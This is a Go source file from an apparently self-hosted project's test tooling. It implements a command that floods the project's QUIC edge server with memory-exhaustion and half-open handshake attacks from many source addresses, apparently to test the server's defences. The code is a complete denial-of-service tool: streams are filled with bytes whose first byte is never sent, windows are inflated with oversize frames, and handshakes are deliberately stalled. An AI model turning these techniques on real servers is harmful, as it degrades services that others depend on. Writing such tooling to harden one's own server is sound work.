//go:build linux

package main

import (
	"context"
	"crypto/tls"
	"crypto/x509"
	"flag"
	"fmt"
	"net"
	"net/netip"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"github.com/quic-go/quic-go"

	"github.com/oneping/oneping/internal/node"
	"github.com/oneping/oneping/internal/process"
	"github.com/oneping/oneping/proto"
)

const (
	attackStreams = 8
	// attackPause follows a connection that was refused.
	attackPause = 50 * time.Millisecond
	// growFor is how long a link's window is made to grow by what the edge reads.
	growFor = 1500 * time.Millisecond
	// stuckFor is how long a half-open handshake says nothing: longer than an edge waits.
	stuckFor = 7 * time.Second
)

// attack makes an edge keep what nobody reads. Built with the overlay of the tests
// (test/e2e/harness_attacker_test.go), its sender puts 1 or 128 bytes into a STREAM frame of streams
// 4, 8, … and never sends the first byte of them.
type attack struct {
	edge  net.Addr
	nodes []*node.Node
	dials atomic.Int64
	fails atomic.Int64
	bytes atomic.Int64 // written on streams
	zeros []byte       // what all streams write: the attacker's own memory is bounded
}

// runAttack attacks from many addresses at once until it is interrupted.
func runAttack(ctx context.Context, flags *flag.FlagSet, args []string) error {
	edge := flags.String("edge", "", "ADDRESS:PORT of the edge")
	from := flags.String("from", "", "the first source address; the others are one /24 further each")
	sources := flags.Int("sources", 1, "how many source addresses")
	each := flags.Int("each", 2, "connections of each at a time")
	tokens := flags.String("token-files", "", "of devices, with commas between them: linkmem")
	args, err := parse(flags, args, 1)
	if err != nil {
		return err
	}
	a := &attack{zeros: make([]byte, 16<<20)}
	one, ok := map[string]func(context.Context, *quic.Transport, int) error{
		"enrolmem": a.enrolmem, "linkmem": a.linkmem, "halfopen": a.halfopen,
	}[args[0]]
	if !ok {
		return fmt.Errorf("unknown mode %q: enrolmem, linkmem, halfopen", args[0])
	}
	if a.edge, err = net.ResolveUDPAddr("udp", *edge); err != nil {
		return err
	}
	first, err := netip.ParseAddr(*from)
	if err != nil {
		return err
	}
	if err := a.enrol(ctx, *tokens); err != nil {
		return err
	}
	for i := range *sources {
		udp, err := net.ListenUDP("udp", net.UDPAddrFromAddrPort(netip.AddrPortFrom(nextNetwork(first, i), 0)))
		if err != nil {
			return err
		}
		tr := &quic.Transport{Conn: udp}
		for j := range *each {
			go a.repeat(ctx, func() error { return one(ctx, tr, i**each+j) }) // until the process ends: an attacker says no goodbye
		}
	}
	fmt.Fprintln(os.Stderr, "attacking")
	<-ctx.Done()
	fmt.Printf("%d connections, %d refused or cut, %d bytes of streams\n", a.dials.Load(), a.fails.Load(), a.bytes.Load())
	return nil
}

// nextNetwork returns the address n times 256 further.
func nextNetwork(a netip.Addr, n int) netip.Addr {
	b := a.As4()
	b[2] += byte(n)
	return netip.AddrFrom4(b)
}

// enrol makes devices.
func (a *attack) enrol(ctx context.Context, tokens string) error {
	if tokens == "" {
		return nil
	}
	for _, file := range strings.Split(tokens, ",") {
		n := node.New(node.Config{Role: proto.RoleClient, TokenSource: process.TokenFrom(proto.RoleClient, file)})
		if err := n.Enrol(ctx); err != nil {
			return err
		}
		a.nodes = append(a.nodes, n)
	}
	return nil
}

func (a *attack) repeat(ctx context.Context, f func() error) {
	for ctx.Err() == nil {
		a.dials.Add(1)
		if f() != nil {
			a.fails.Add(1)
			_ = pause(ctx, attackPause)
		}
	}
}

func (a *attack) dial(ctx context.Context, tr *quic.Transport, conf *tls.Config) (*quic.Conn, error) {
	return tr.Dial(ctx, a.edge, conf, &quic.Config{EnableDatagrams: true, InitialPacketSize: 1200, MaxIncomingUniStreams: 16, KeepAlivePeriod: time.Second})
}

// enrolmem is a stranger who asks to be enrolled and never says how.
func (a *attack) enrolmem(ctx context.Context, tr *quic.Transport, _ int) error {
	conn, err := a.dial(ctx, tr, &tls.Config{MinVersion: tls.VersionTLS13, InsecureSkipVerify: true, NextProtos: []string{proto.EnrolALPN}})
	if err != nil {
		return err
	}
	if _, err := conn.OpenStream(); err != nil { // stream 0 stays silent
		return err
	}
	return a.fill(conn)
}

// linkmem is a device that may reach nothing. It lets the edge read, as fast as it can, and then
// fills what that has brought.
func (a *attack) linkmem(ctx context.Context, tr *quic.Transport, i int) error {
	conf, err := a.nodes[i%len(a.nodes)].TLS(ctx)
	if err != nil {
		return err
	}
	conf.NextProtos = []string{proto.ALPN}
	conn, err := a.dial(ctx, tr, conf)
	if err != nil {
		return err
	}
	control, err := conn.OpenStream()
	if err != nil {
		return err
	}
	hello, err := proto.AppendControl([]byte(proto.Magic), &proto.Control{Hello: &proto.Hello{Hostname: "hostile"}})
	if err != nil {
		return err
	}
	if _, err := control.Write(hello); err != nil {
		return err
	}
	if err := a.grow(conn); err != nil {
		return err
	}
	return a.fill(conn)
}

// grow sends oversize datagrams, which the edge reads and drops.
func (a *attack) grow(conn *quic.Conn) error {
	s, err := conn.OpenUniStream()
	if err != nil {
		return err
	}
	_ = s.SetWriteDeadline(time.Now().Add(growFor))
	frame := append(proto.AppendLength(nil, 60_000), make([]byte, 60_000)...)
	_, err = s.Write([]byte{byte(proto.StreamOversize)})
	for err == nil {
		_, err = s.Write(frame)
	}
	if conn.Context().Err() != nil {
		return err
	}
	s.CancelWrite(0)
	return nil
}

// fill writes on many streams until the edge ends the connection.
func (a *attack) fill(conn *quic.Conn) error {
	var wg sync.WaitGroup
	for range attackStreams {
		s, err := conn.OpenStream()
		if err != nil {
			break
		}
		wg.Go(func() {
			n, _ := s.Write(a.zeros)
			a.bytes.Add(int64(n))
		})
	}
	<-conn.Context().Done()
	wg.Wait()
	return context.Cause(conn.Context())
}

// halfopen begins handshakes, answers a Retry, and is silent then.
func (a *attack) halfopen(ctx context.Context, tr *quic.Transport, _ int) error {
	conf := &tls.Config{
		MinVersion: tls.VersionTLS13, InsecureSkipVerify: true, NextProtos: []string{proto.ALPN},
		VerifyPeerCertificate: func([][]byte, [][]*x509.Certificate) error {
			_ = pause(ctx, stuckFor)
			return context.Canceled
		},
	}
	conn, err := a.dial(ctx, tr, conf)
	if err == nil {
		_ = conn.CloseWithError(0, "")
	}
	return err
}
